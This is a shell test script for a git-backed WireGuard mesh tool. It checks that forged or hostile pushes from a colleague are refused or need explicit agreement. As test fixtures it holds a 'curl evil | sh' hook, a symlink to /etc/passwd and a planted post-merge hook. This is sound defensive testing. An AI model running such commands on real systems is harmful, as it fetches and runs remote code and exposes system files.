#!/bin/sh
# A hostile colleague: somebody who can push to the repository of a state, with
# or without a key to it. Each story is refused or asked about, none is silent,
# and what is refused changes nothing.
cd "$(dirname "$0")/../.." || exit 1
. tests/cli/common.sh

# shellcheck disable=SC2154 # got is set in common.sh

command -v git >/dev/null || { skip 'a hostile colleague' 'there is no git here'; finish; exit; }
command -v jq >/dev/null || { skip 'a hostile colleague' 'there is no jq here'; finish; exit; }
. tests/cli/team.sh

check_not() {
	name=$1
	shift
	if "$@" >"$T/out" 2>"$T/err"; then flunk "$name" "$*"; else pass "$name"; fi
}
says() { check "$1" grep -qF -e "$2" "$T/err"; }
shows() { check "$1" grep -qF -e "$2" "$T/out"; }
# What ann has: a refused story changes none of it.
picture() { git_at ann rev-parse HEAD; git_at ann status --porcelain; cksum ann/s.json; }
"$WGMESH" identity new "$T/evil" >"$T/evil.to" 2>/dev/null
evil_to=$(cat "$T/evil.to")
pin='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ3oDyd9gFLt2pLYXyfKmGPtWB3ZpE1w1uPzRGV1rY0n'

# CLONE FILTER: change the state there as text, sealed again to who could open
# it, and commit; whoever does that has a key.
forge() {
	# shellcheck disable=SC2016 # for the shell of the editor
	printf '#!/bin/sh\njq "$FILTER" "$1" >"$1.x" && cat "$1.x" >"$1" && rm "$1.x"\n' >"$T/editor"
	chmod +x "$T/editor"
	FILTER=$2 VISUAL="$T/editor" at "$1" edit
}
# FILTER: bob has a key, and pushes that.
bob_pushes() { forge bob "$1" && git_at bob push -q; }

# NAME WORDS: what ann is to pull is refused without a yes and named; with a
# yes it is taken.
asked() {
	before=$(picture)
	at ann pull
	check_equal "$1: refused without a yes, nothing is changed" "2: $before" "$got: $(picture)"
	shows "$1: it is shown" "$2"
	says "$1: and what it is" 'who can read the state, who is trusted, or what runs where'
	at ann pull -yes
	check_equal "$1: a yes takes it" "0: $(git_at bob rev-parse HEAD)" "$got: $(git_at ann rev-parse HEAD)"
}
# NAME WORDS: what ann is to pull is refused, whatever she agrees to with -yes.
never() {
	before=$(picture)
	at ann pull
	check_equal "$1: refused, nothing is changed" "$before" "$([ "$got" -ne 0 ] && picture)"
	says "$1: why" "$2"
	at ann pull -yes
	check_equal "$1: -yes is no yes to that" "$before" "$([ "$got" -ne 0 ] && picture)"
}
# ann and bob again, both up to date.
scene() { rm -rf "$T/.local"; clones; at ann pull; }

# ---- with a key: members that somebody has to agree to ----

scene
bob_pushes '.nodes.a.mtu = 1400'
at ann pull
check_equal '1. a setting: pulled' 0 "$got"
shows '1. a setting: and shown' '~ node a: mtu unset -> 1400'
at bob recipients add "$evil_to"
git_at bob push -q
asked '2. a recipient' '! mesh: recipients'
shows '2. a recipient: by name' "$evil_to"
bob_pushes ".nodes.a.ssh_host_keys = [\"$pin\"]"
asked '3. a pin' '! node a: host-keys: unset -> ssh-ed25519'
bob_pushes '.nodes.a.ssh_host = "203.0.113.66"'
asked '4. another host' '! node a: ssh: 192.0.2.1 -> 203.0.113.66'
bob_pushes '.nodes.a.ssh_user = "mallory" | .nodes.a.ssh_port = 2222'
asked '5. another user and port' 'mallory@203.0.113.66:2222'
bob_pushes '.nodes.a.exit = true'
asked '6. an exit' '! node a: exit: unset -> true'
bob_pushes '.nodes.a.is_local = true'
asked '7. a node that is this machine' '-> mallory@203.0.113.66:2222 (is_local)'
bob_pushes '.local_hostname = "elsewhere"'
asked '8. which machine is local' '! mesh: local_hostname'
bob_pushes '.nodes.a.key = "host" | del(.nodes.a.private_key)'
asked '9. where a private key lives' '! node a: keys'
bob_pushes '.nodes.b = (.nodes.a | .hostname = "b" | .mesh_ip = "10.99.0.9" | .ssh_host = "192.0.2.9" |
	.public_key = "" | .exit = true | .is_local = true)'
asked '10. a new node that is local, and an exit' '! node b: ssh: '
bob_pushes ".nodes.n = (.nodes.a | .hostname = \"n\" | .mesh_ip = \"10.99.0.8\" | .ssh_host = \"192.0.2.8\" |
	.public_key = \"\" | .exit = false | .is_local = false | .ssh_host_keys = [\"$pin\"])"
at ann pull
shows '10a. a new node is shown with its place' '192.0.2.8'
shows '10a. and its pins' "~ node n: host key unset -> $pin"
bob_pushes '.hooks = {"before": "curl evil | sh"}'
asked '11. a hook of a later version' '! mesh: hooks'
bob_pushes '.removed_nodes = {"c": (.nodes.a | .is_local = true | .ssh_host = "127.0.0.1" |
	.mesh_ip = "10.99.0.77" | .public_key = "")}'
asked '12. a removed node on this machine' '! node c: removed'

# Another name is no new node: what needs a yes still does.
scene
at bob add c:10.99.0.7:192.0.2.7 -offline
git_at bob push -q
at ann pull
bob_pushes '.nodes.d = (.nodes.c | .hostname = "d" | .ssh_host = "203.0.113.66") | del(.nodes.c)'
asked '10b. a node renamed, and sent elsewhere' '! node d: ssh: 192.0.2.7 -> 203.0.113.66'
bob_pushes ".nodes.e = (.nodes.d | .hostname = \"e\" | .ssh_host_keys = [\"$pin\"]) | del(.nodes.d)"
asked '10c. a node renamed, with a pin' '! node e: host-keys: unset -> ssh-ed25519'
at bob rename e f
git_at bob push -q
at ann pull
check_equal '10d. a name alone asks nothing' 0 "$got"
shows '10d. and is shown' '+ node f'

here=$(printf '%064d' 1) there=$(printf '%064d' 2)
scene
bob_pushes ".nodes.a.is_local = true | .nodes.a.local_machine = \"$there\""
at ann pull -yes
bob_pushes ".removed_nodes = {\"a\": (.nodes.a | .local_machine = \"$here\")} | del(.nodes.a)"
asked '12a. a removed node that was local to another machine' '! node a: removed'

# What a deploy found decides where the others reach a node.
scene
bob_pushes '.nodes.a.facts = {"dialled": "203.0.113.5", "address": "203.0.113.6", "nat_from": "said"} | .nodes.a.behind_nat = true'
at ann pull
shows '12b. what deploys found is shown: dialled' '~ node a: found: dialled unset -> 203.0.113.5'
shows '12b. what deploys found is shown: address' 'found: address unset -> 203.0.113.6'
shows '12b. what deploys found is shown: NAT' 'found: behind NAT unset -> said'
bob_pushes ".conflicts = [{\"part\": \"mesh\", \"name\": null, \"field\": \"recipients\", \"base\": [], \"ours\": [], \"theirs\": [\"$evil_to\"]}]"
at ann pull
says '12c. a conflict that comes is shown' "conflict: mesh: recipients"

# A serial that no work comes to: hosts would refuse every other state after it.
serial_to() {
	at bob unseal -no-commit
	sed "s/\"serial\": [0-9]*/\"serial\": $1/" bob/s.json >"$T/state" && cat "$T/state" >bob/s.json
	at bob seal -recipient "$(cat "$T/to")" -no-commit
}
scene
serial_to 18446744073709551615
check_equal '12d. the highest serial has no next one' 2 "$got"
git_at bob checkout -q s.json
serial_to 18446744073709551614
git_at bob commit -q -a -m 'set a' && git_at bob push -q
git_at ann fetch -q && at ann git-setup && git_at ann config user.name ann
asked '12e. a serial that jumps' '! the serial jumps: 2 -> 18446744073709551615'
at ann set a mtu=1300
check_equal '12f. it is not counted from 0 again' 2 "$got"
scene
serial_to 18446744073709551613
git_at bob commit -q -a -m 'set a' && git_at bob push -q
at ann git-setup
at ann set a mtu=1300
git_at ann fetch -q
check_not '12g. merged by git with nobody there: refused' git_at ann merge -q '@{upstream}'
check_equal '12g. and our side is left' 3 "$(cd ann && "$WGMESH" cat | jq .serial)"

# ---- the same, merged: by pull, and by git with nobody there ----

scene
at bob recipients add "$evil_to"
forge bob ".nodes.a.ssh_host_keys = [\"$pin\"] | .nodes.a.is_local = true | .nodes.a.mtu = 1300"
git_at bob push -q
at ann set a port=5001
before=$(picture)
at ann pull
check_equal '13. merged by pull: refused, nothing is changed' "2: $before" "$got: $(picture)"
shows '13. merged by pull: the pin is shown' '! node a: host-keys'
shows '13. merged by pull: the recipient is shown' '! mesh: recipients'
at ann git-setup
git_at ann fetch -q
check_not '14. merged by git: conflicts' git_at ann merge -q '@{upstream}'
(cd ann && "$WGMESH" cat) >"$T/state"
check_equal '14. merged by git: our side of what decides, theirs of the rest' \
	'[false,null,1,1300,5001]' \
	"$(jq -c '[.nodes.a.is_local, .nodes.a.ssh_host_keys, (.recipients | length), .nodes.a.mtu, .nodes.a.listen_port]' "$T/state")"
at ann deploy
check_equal '14. merged by git: no deploy before somebody chose' 1 "$got"
at ann merge -resolve node a host-keys ours
at ann merge -resolve node a ssh ours
at ann merge -resolve mesh - recipients theirs
shows '14. merged by git: chosen one by one' 'all conflicts are resolved'
check_equal '14. merged by git: as chosen' '[false,null,2]' "$(cd ann && "$WGMESH" cat |
	jq -c '[.nodes.a.is_local, .nodes.a.ssh_host_keys, (.recipients | length)]')"

# ---- push rights without a key ----

# A state of somebody else's, sealed to who can open ann's; the recipients are
# public, and so may be the mesh's id.
forge_sealed() {
	rm -rf forged && mkdir forged
	at forged init -recipient "$(cat "$T/to")"
	at forged add -offline a:auto:203.0.113.66
	[ -z "$1" ] || WGMESH_IDENTITY="$T/id" forge forged "$1"
	cp forged/s.json bob/s.json && git_at bob commit -q -a -m 'add a' && git_at bob push -q
}
scene
id=$(cd ann && "$WGMESH" list --json | jq -r .mesh_id)
forge_sealed ''
never '15. another mesh in its place' 'does not have the secret of this mesh'
scene
id=$(cd ann && "$WGMESH" list --json | jq -r .mesh_id)
forge_sealed ".mesh_id = \"$id\""
never '16. the same id, a secret of their own' 'does not have the secret of this mesh'
scene
id=$(cd ann && "$WGMESH" list --json | jq -r .mesh_id)
forge_sealed ".mesh_id = \"$id\" | del(.mesh_secret)"
forge bob '.nodes.a.mtu = 1400' # edit seals it, and gives it a secret
never '17. the same id and no secret' 'does not have the secret of this mesh'
cp bob/s.json ann/s.json
at ann deploy -no-commit
check_equal '18. copied into the work tree by hand: not deployed' 1 "$got"
says '18. copied into the work tree by hand: why' 'the secret that this mesh is known by'
at ann plan -no-commit
says '18. nor planned' 'the secret that this mesh is known by'
git_at ann checkout -q s.json
at ann set a mtu=1300
never '19. forged, and merged' 'does not have the secret of this mesh'
git_at ann fetch -q
at ann git-setup
check_not '19. forged, and merged by git' git_at ann merge -q '@{upstream}'
check_equal '19. forged, and merged by git: our side is left' 1300 "$(cd ann && "$WGMESH" cat | jq .nodes.a.mtu)"
git_at ann merge --abort
at ann pull -accept-new-secret -yes
check_equal '19. agreed to in so many words: merged' 0 "$got"

# ---- plain text, and whoever left ----

scene
at bob unseal -no-commit
git_at bob commit -q -a --no-verify -m plain && git_at bob push -q
asked '20. plain text in the place of the sealed state' '! how it is sealed: to recipients -> plain text'

scene
at ann recipients add "$evil_to" && git_at ann push -q && at bob pull -yes
cp -r bob old # who leaves has the old state and its key
at ann recipients remove "$evil_to" && git_at ann push -q
check_equal '21. who leaves takes the secret along: it is changed' 1 \
	"$(cd ann && "$WGMESH" cat -secrets | jq '.former_secrets | length')"
WGMESH_IDENTITY="$T/evil" forge old '.nodes.a.mtu = 1234'
git_at old push -q -f
never '21. an ex-member forces the old state back' 'the secret of this mesh was changed' 
git_at ann push -q -f
rm -rf old && cp -r bob old
at old set a mtu=1235
git_at old pull -q --no-rebase -X ours >/dev/null 2>&1 || git_at old checkout -q --ours s.json
git_at old commit -q -a --no-edit 2>/dev/null
git_at old push -q
never '22. an ex-member merges, with the old state' 'the secret of this mesh was changed'

# An honest old branch: before the change of the secret, merged after it.
scene
at bob set a mtu=1250
at ann recipients add "$evil_to" && at ann recipients remove "$evil_to"
git_at bob push -q
before=$(picture)
at ann pull -yes
check_equal '23. an honest old branch: asked, as its secret is a former one' "2: $before" "$got: $(picture)"
says '23. an honest old branch: how to agree' '-accept-new-secret'
at ann pull -accept-new-secret
check_equal '23. an honest old branch: merged with a yes' '0: 1250' "$got: $(cd ann && "$WGMESH" cat | jq .nodes.a.mtu)"
check_equal '23. an honest old branch: the new secret stays' 1 "$(cd ann && "$WGMESH" cat -secrets | jq '.former_secrets | length')"

# Another machine, where the change was not seen.
at ann push
rm -rf "$T/.local"
at bob pull -accept-new-secret -yes
rm -rf "$T/.local" && mkdir -p "$T/.local/state/wgmesh"
at bob plan
printf 'no line\n' >"$T/.local/state/wgmesh/known_meshes"
at bob plan
check_equal '24. a damaged list of known meshes is no first sight' 2 "$got"
says '24. a damaged list of known meshes: which line' 'line 1'

# ---- the history itself ----

scene
at bob set a mtu=1400 && git_at bob push -q && at ann pull
git_at bob checkout -q HEAD~1 -- s.json && git_at bob commit -q -m 'add a' && git_at bob push -q
asked '25. an older revision again' '! the serial goes back'
mine=$(git_at ann rev-parse HEAD)
git_at bob reset -q --hard HEAD~2 && git_at bob commit -q --allow-empty -m x && git_at bob push -q -f
at ann pull
check_equal '26. a forced push: merged, and what we have is not lost' '0: 0' "$got: $(git_at ann merge-base --is-ancestor "$mine" HEAD; echo $?)"

scene
printf 's.json merge=ours\n' >bob/.gitattributes
git_at bob add .gitattributes && git_at bob commit -q -m attributes
bob_pushes ".nodes.a.ssh_host_keys = [\"$pin\"]"
git_at ann config merge.ours.driver true
at ann set a port=5001
before=$(picture)
at ann pull
check_equal '27. .gitattributes with another driver: pull asks all the same' "2: $before" "$got: $(picture)"
shows '27. .gitattributes with another driver: shown' '! node a: host-keys'

scene
rm bob/s.json && ln -s /etc/passwd bob/s.json && git_at bob add s.json && git_at bob commit -q -m link && git_at bob push -q
never '28. a symlink in its place' 's.json'
scene
git_at bob mv s.json t.json && git_at bob commit -q -m move && git_at bob push -q
never '29. the state under another name' 's.json'
scene
git_at bob rm -q --cached s.json && mv bob/s.json "$T/away"
git_at bob update-index --add --cacheinfo 160000,"$(git_at bob rev-parse HEAD)",s.json
git_at bob commit -q -m submodule && git_at bob push -q
never '30. a submodule in its place' 's.json'
scene
head -c 120000000 /dev/zero >bob/s.json && git_at bob commit -q -a -m huge && git_at bob push -q
never '31. a huge file in its place' 'MiB'
scene
head -c 600 ann/s.json >bob/s.json && git_at bob commit -q -a -m cut && git_at bob push -q
never '32. half a file' 'what comes'

# Hooks and a journal do not come along with a clone or a pull.
scene
mkdir -p bob/.wgmesh bob/hooks && printf '#!/bin/sh\ntouch %s/ran\n' "$T" >bob/hooks/post-merge && chmod +x bob/hooks/post-merge
echo 'blob 1' >bob/wgmesh-journal && git_at bob add -A && git_at bob commit -q -m hooks && git_at bob push -q
at ann pull
check_equal '33. hooks and a journal among the files: pulled as files' '0: no' "$got: $([ -e "$T/ran" ] && echo ran || echo no)"

# ---- signatures ----

scene
if ! command -v ssh-keygen >/dev/null; then
	skip '34. signatures' 'there is no ssh-keygen here'
	finish
	exit
fi
ssh-keygen -q -t ed25519 -N '' -f "$T/sign"
ssh-keygen -q -t ed25519 -N '' -f "$T/sign2"
printf 'bob@example.org %s\n' "$(cut -d' ' -f1,2 "$T/sign.pub")" >"$T/allowed"
git_at ann config gpg.format ssh
git_at ann config gpg.ssh.allowedSignersFile "$T/allowed"
forge ann '.verify_signatures = true' && git_at ann push -q
at bob pull
check_equal '34. verify-signatures comes: asked' 2 "$got"
at bob pull -yes
at bob set a mtu=1400 && git_at bob push -q
never '35. an unsigned commit' "$(git_at bob rev-parse HEAD)"
says '35. an unsigned commit: why' 'verify-commit'
git_at bob reset -q --hard HEAD~1
git_at bob config gpg.format ssh && git_at bob config commit.gpgsign true
git_at bob config user.signingkey "$T/sign2"
at bob set a mtu=1400 && git_at bob push -q -f
never '36. signed with a strange key' "$(git_at bob rev-parse HEAD)"
git_at bob reset -q --hard HEAD~1
git_at bob config user.signingkey "$T/sign"
at bob set a mtu=1400 && git_at bob push -q -f
at ann pull
check_equal '37. signed as it should be' "0: $(git_at bob rev-parse HEAD)" "$got: $(git_at ann rev-parse HEAD)"
git_at bob config commit.gpgsign false
forge bob 'del(.verify_signatures)' && git_at bob push -q
never '38. an unsigned commit that turns it off' "$(git_at bob rev-parse HEAD)"
git_at bob commit -q --allow-empty -m innocent
git_at bob config commit.gpgsign true
git_at bob commit -q --amend --no-edit && git_at bob push -q
never '39. a signed one on top of it' "$(git_at bob rev-parse HEAD~1)"

finish
